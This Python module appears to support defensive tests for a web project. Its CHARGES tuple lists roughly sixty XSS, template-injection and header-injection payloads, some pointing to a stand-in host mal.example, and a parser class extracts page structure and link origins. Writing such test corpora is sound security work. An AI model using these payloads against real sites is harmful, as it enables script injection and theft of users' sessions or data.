"""Hostile texts, and what a page is made of apart from its text (requirement X3)."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

CHARGES = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//mal.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>clic</a>",
    "<base href=//mal.example/>",
    "<meta http-equiv=refresh content='0;url=//mal.example'>",
    "<link rel=stylesheet href=//mal.example/x.css>",
    "<style>@import '//mal.example/x.css';</style>",
    "<form action=//mal.example><input name=q autofocus onfocus=alert(1)></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>fin",
    "<xmp><script>alert(1)</script></xmp>",
    "<!-- commentaire --><b>gras</b>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    '"/><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "'><svg/onload=alert(1)>",
    "` onclick=alert(1) `",
    'x" href="//mal.example" data-x="',
    'x"\n<p id=q>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//mal.example/suivre",
    "https://mal.example/@exemple.fr",
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,2) %}x{% endfor %}",
    "{% raw %}{{ 7 }}",
    "{# commentaire a #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &quot;x&quot; &nbsp;",
    "ligne\r\nX-Ajout: 1\r\n\r\n<script>alert(1)</script>",
    "ligne\rautre\nencore",
    "a\u2028b\u2029c</script>",
    "\\u003cscript\\u003e \\x3c \\';alert(1)//",
    '";alert(1);var x="',
    "*/alert(1)/*",
    "<!--<script>",
    "[lien](javascript:alert(1)) **gras** # titre",
    "a\u0000b\ufffd\ufeff<b>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "é" * 400 + "<b>",
)
ADRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "srcdoc"})
Evenement = tuple[str, ...]


class Ossature(HTMLParser):
    """Reads a page: elements with the names of their attributes and the site of their links, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.os: list[Evenement] = []
        self.textes: list[str] = []
        self.attributs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.os.append((tag, *(nom for nom, _ in attrs), *(_site(v or "") for nom, v in attrs if nom in ADRESSES)))
        self.attributs += [(nom, v or "") for nom, v in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.os.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.os.append(("commentaire",))

    def handle_decl(self, decl: str) -> None:
        self.os.append(("declaration",))

    def unknown_decl(self, data: str) -> None:
        self.os.append(("declaration",))

    def handle_pi(self, data: str) -> None:
        self.os.append(("instruction",))

    def handle_data(self, data: str) -> None:
        self.textes.append(data)


def _site(adresse: str) -> str:
    """``https://exemple.fr``, ``tel:``, or nothing for a page of ours. Browsers drop controls before the scheme."""
    try:
        url = urlsplit(adresse.strip("".join(map(chr, range(33)))))
    except ValueError:
        return "illisible"
    if url.scheme in ("mailto", "tel", "sms"):
        return f"{url.scheme}:"
    return f"{url.scheme}:{'//' if url.netloc else ''}{url.netloc}" if url.scheme or url.netloc else ""


def ossature(html: str) -> Ossature:
    """Parse a page."""
    lecteur = Ossature()
    lecteur.feed(html)
    lecteur.close()
    return lecteur
